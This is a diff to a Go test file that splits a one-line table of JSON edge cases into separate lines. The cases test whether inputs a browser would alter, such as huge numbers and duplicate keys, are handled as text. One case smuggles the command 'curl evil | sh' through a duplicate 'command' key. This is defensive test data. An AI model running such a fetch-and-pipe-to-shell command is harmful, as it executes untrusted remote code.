@@ -115,7 +115,11 @@ func TestAnInputThatABrowserWouldChangeComesAsAText(t *testing.T) {
 		input   string
 		changed bool
 	}{
-		{`{"amount":9007199254740993}`, true}, {`{"a":[{"n":1e400}]}`, true}, {`{"n":-0}`, true}, {`{"command":"ls","command":"curl evil | sh"}`, true}, {`{"a":{"b":1,"\u0062":2}}`, true},
+		{`{"amount":9007199254740993}`, true},
+		{`{"a":[{"n":1e400}]}`, true},
+		{`{"n":-0}`, true},
+		{`{"command":"ls","command":"curl evil | sh"}`, true},
+		{`{"a":{"b":1,"\u0062":2}}`, true},
 		{`{"command":"ls","n":[1,2.5,1e3,9007199254740992],"a":{"command":"ls"}}`, false},
 	} {
 		id, text := fmt.Sprint("s", i), ""
